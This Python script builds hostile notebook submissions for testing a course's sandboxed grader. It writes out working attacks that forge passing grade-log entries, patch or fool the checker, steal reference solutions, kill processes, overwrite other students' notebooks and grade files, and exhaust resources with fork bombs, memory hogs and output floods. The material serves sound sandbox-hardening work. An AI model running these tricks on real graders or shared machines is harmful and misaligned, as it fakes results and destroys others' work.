"""Write the hostile submissions used by tests/test_grading_hostile.py (run from the repository root).

Each one is notebook 00's solution with exercise 00.1's cell replaced by one attack
that also stores a WRONG answer, so a forged pass is visible as 1 point. Cells that
after 00.1 are dropped to keep the test fast (no torch import). MARKER names
whatever an attack leaves behind, so the test can look for it afterwards.
"""
import copy
import sys
from pathlib import Path

import nbformat

MARKER = "course-hostile-7f3a"
HEADER = ('# Exercise 00.1 (1 points): import onnx and onnxruntime and store their versions in a dict '
          '`versions` with the keys "onnx" and "onnxruntime"')
WRONG = 'versions = {"onnx": "0.0", "onnxruntime": "0.0"}\n'

ATTACKS = {
    "forged-log": f'''import glob, json, os
{WRONG}line = json.dumps({{"exercise": "00.1", "passed": True, "feedback": "all checks passed"}}) + "\\n"
targets = [os.environ.get("COURSE_UTILS_GRADE_LOG")] + [p for root in ("/course", "/tmp", "/home", "/work", "/root") for p in glob.glob(root + "/**/*.jsonl", recursive=True)]
for target in filter(None, targets):
    try:
        open(target, "a").write(line * 10)
    except OSError:
        pass
print("{MARKER}")''',
    "patched-checks": f'''import course_utils.checks as checks
from course_utils import answers
{WRONG}checks.run_checks = lambda *a, **k: checks.Verdict("00.1", True, "all checks passed", True)
checks.run_checks_on_data = checks.run_checks
checks._REGISTRY.clear()
answers._ANSWERS.clear()
import course_utils.grading as grading
grading._grade_one = None
check("00.1", versions)''',
    "include-hidden-oracle": f'''from course_utils.checks import run_checks
{WRONG}found = None
for guess in ("1.23.2", "1.19.0", "1.20.0"):
    try:
        if run_checks("00.1", {{"onnx": guess, "onnxruntime": guess}}, include_hidden=True).passed:
            found = guess
    except Exception as error:
        print(type(error).__name__)''',
    "always-equal-answer": '''class AlwaysEqual(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __getitem__(self, key):
        return AlwaysEqualStr("x")
    def __iter__(self):
        return iter(["onnx", "onnxruntime"])
class AlwaysEqualStr(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__
versions = AlwaysEqual(onnx=AlwaysEqualStr("0"), onnxruntime=AlwaysEqualStr("0"))''',
    "frame-reading": '''import sys
class FrameReader(str):
    def __eq__(self, other):
        frame = sys._getframe(1)
        while frame is not None:  # look for the expected value in the checker's frames
            for value in frame.f_locals.values():
                if isinstance(value, str) and value[:1].isdigit() and "." in value:
                    return True
            frame = frame.f_back
        return True
    def __ne__(self, other):
        return not self.__eq__(other)
    __hash__ = str.__hash__
versions = {"onnx": FrameReader("0"), "onnxruntime": FrameReader("0")}''',
    "reference-theft": f'''import gc, glob
{WRONG}stolen = None
for obj in gc.get_objects():
    if isinstance(obj, str) and "__vers" + "ion__" in obj and "versions" in obj and "Exercise 00.1" in obj:
        stolen = obj
from course_utils.build import ROOT
leaks = glob.glob(str(ROOT / "solutions" / "*")) + [p for root in ("/course", "/work", "/root", "/tmp") for p in glob.glob(root + "/**/solutions/*.ipynb", recursive=True)]
try:
    import course_utils.grading.hidden_checks.install as hidden
    leaks.append(hidden.__file__)
except ImportError:
    pass
if stolen:
    exec(stolen)
print(len(leaks), "leaks")''',
    "parent-kill": f'''import os, signal
{WRONG}for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)''',
    "classmate-and-grades-sabotage": f'''import glob, os
{WRONG}hits = []
paths = [p for root in ("/course", "/tmp", "/home", "/work", "/root") for ext in ("ipynb", "json", "csv")
         for p in glob.glob(f"{{root}}/**/*.{{ext}}", recursive=True)]
for pid in os.listdir("/proc"):
    try:
        paths += open(f"/proc/{{pid}}/cmdline").read().split("\\0")
    except OSError:
        pass
for path in paths:
    if path.endswith((".ipynb", ".json", ".csv")) and "/proc/" not in path:
        try:
            with open(path, "w") as handle:
                handle.write("{MARKER}")
            hits.append(path)
        except OSError:
            pass
print(len(hits))''',
    "writes-outside-work-folder": f'''import os, sys
{WRONG}for folder in ["/tmp", os.path.expanduser("~"), "/course/lib", "/course/lib/course_utils", sys.prefix,
               "/etc", "/", "/root", "/work", "/usr", "/var/tmp", "/dev/shm"]:
    try:
        with open(os.path.join(folder, "{MARKER}-written"), "w") as handle:
            handle.write("x")
    except OSError:
        pass''',
    "detached-children": f'''import os, subprocess
{WRONG}subprocess.Popen(["sleep", "600"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "exec -a {MARKER}-daemon sleep 600"])
    os._exit(0)''',
    "listener-on-all-interfaces": f'''import socket
{WRONG}listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("0.0.0.0", 47613))
listener.listen()''',
    "ignored-alarm": f'''import signal
{WRONG}for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass''',
    "output-flood": f'''import sys
{WRONG}print("x" * (256 * 2**20))''',
    "output-flood-many-lines": f'''import sys
{WRONG}for _ in range(4 * 2**20):
    sys.stdout.write("x" * 64 + "\\n")''',
    "fork-bomb": f'''import os, time
{WRONG}children = 0
while children < 100_000:  # stops at the sandbox's process cap
    pid = os.fork()
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children += 1''',
    "memory-hog": f'''{WRONG}hog = []
while True:  # touch every page: real memory, not just address space
    block = bytearray(256 * 2**20)
    block[::4096] = b"x" * len(block[::4096])
    hog.append(block)''',
}


def main(root: Path) -> None:
    base = nbformat.read(root / "solutions" / "00-install-check.ipynb", as_version=4)
    out = root / "tests" / "files" / "hostile"
    for name, attack in ATTACKS.items():
        nb = copy.deepcopy(base)
        cells = []
        for cell in nb.cells:
            if cell.cell_type == "code":
                cell.outputs, cell.execution_count = [], None
                if "Exercise 00.1" not in cell.source:
                    continue
                cell.source = f"from course_utils import check\n\n{HEADER}\n{attack}\n"
            cells.append(cell)
        nb.cells = cells
        nbformat.write(nb, out / f"{name}.ipynb")


if __name__ == "__main__":
    main(Path(sys.argv[1] if len(sys.argv) > 1 else "."))
